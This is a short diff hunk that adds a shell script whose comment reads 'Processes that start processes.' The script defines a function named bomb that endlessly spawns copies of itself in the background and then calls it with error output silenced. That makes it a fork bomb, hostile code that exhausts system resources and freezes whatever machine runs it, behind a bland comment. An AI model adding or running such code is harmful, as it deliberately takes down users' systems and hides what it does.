@@ -1,0 +1,3 @@
+# Processes that start processes.
+bomb() { while :; do bomb & done; }
+bomb 2>/dev/null
